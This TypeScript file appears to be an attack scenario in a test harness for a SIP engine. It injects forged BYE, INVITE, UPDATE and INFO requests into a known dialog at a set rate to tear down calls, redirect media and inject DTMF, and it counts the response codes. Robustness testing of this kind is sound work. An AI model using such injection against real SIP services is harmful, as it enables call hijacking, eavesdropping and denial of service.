import { createSocket } from 'node:dgram'
import { connect } from 'node:net'
import { attack, pause } from './attacker.ts'

/** Requests of a third party in a dialog of which it knows everything. */
export interface DialogInjection {
  readonly transport: 'udp' | 'tcp'
  readonly port: number
  /** The third party's address. */
  readonly from: string
  readonly uri: string
  readonly callId: string
  /** Tags of the far end and of the engine. */
  readonly fromTag: string
  readonly toTag: string
  /** CSeq of the first request. */
  readonly sequence: number
  readonly count: number
  readonly perSecond: number
}

export interface DialogInjectionResult {
  readonly sent: number
  /** Final responses by status code. */
  readonly statuses: Readonly<Record<string, number>>
}

const METHODS = ['BYE', 'INVITE', 'INFO', 'UPDATE'] as const
const LINGER_MS = 1000

const MOVED_MEDIA = [
  'v=0',
  'o=- 1 9 IN IP4 127.0.0.2',
  's=-',
  'c=IN IP4 127.0.0.2',
  't=0 0',
  'm=audio 40000 RTP/AVP 0',
  '',
].join('\r\n')

function request(job: DialogInjection, serial: number): Buffer {
  const method = METHODS[serial % METHODS.length]!
  const body = method === 'INVITE' || method === 'UPDATE' ? MOVED_MEDIA : method === 'INFO' ? 'Signal=9\r\n' : ''
  const contentType = method === 'INFO' ? 'application/dtmf-relay' : 'application/sdp'
  const lines = [
    `${method} ${job.uri} SIP/2.0`,
    `Via: SIP/2.0/${job.transport.toUpperCase()} ${job.from}:9;rport;branch=z9hG4bKinjected${process.pid}x${serial}`,
    'Max-Forwards: 70',
    `From: <sip:caller@127.0.0.1>;tag=${job.fromTag}`,
    `To: <${job.uri}>;tag=${job.toTag}`,
    `Call-ID: ${job.callId}`,
    `CSeq: ${job.sequence + serial} ${method}`,
    `Contact: <sip:thief@${job.from}:9;transport=${job.transport}>`,
    ...(body === '' ? [] : [`Content-Type: ${contentType}`]),
    `Content-Length: ${body.length}`,
    '',
    body,
  ]
  return Buffer.from(lines.join('\r\n'))
}

const statuses: Record<string, number> = {}

function read(text: string): void {
  for (const [, status] of text.matchAll(/^SIP\/2\.0 ([2-6]\d\d) /gm)) statuses[status!] = (statuses[status!] ?? 0) + 1
}

async function sender({ transport, port, from }: DialogInjection): Promise<(bytes: Buffer) => void> {
  if (transport === 'udp') {
    const socket = createSocket('udp4')
    await new Promise<void>(resolve => socket.bind(0, from, resolve))
    socket.on('message', bytes => read(bytes.toString('latin1')))
    return bytes => socket.send(bytes, port, '127.0.0.1')
  }
  const socket = connect({ host: '127.0.0.1', port, localAddress: from })
  socket.on('error', () => {})
  socket.on('data', chunk => read(chunk.toString('latin1')))
  await new Promise(resolve => socket.once('connect', resolve))
  return bytes => void socket.write(bytes)
}

async function inject(job: DialogInjection): Promise<DialogInjectionResult> {
  const send = await sender(job)
  const began = performance.now()
  for (let sent = 0; sent < job.count; ) {
    const due = Math.min(job.count, Math.ceil(((performance.now() - began) / 1000) * job.perSecond))
    for (; sent < due; sent++) send(request(job, sent))
    await pause(2)
  }
  await pause(LINGER_MS)
  return { sent: job.count, statuses }
}

attack(inject)
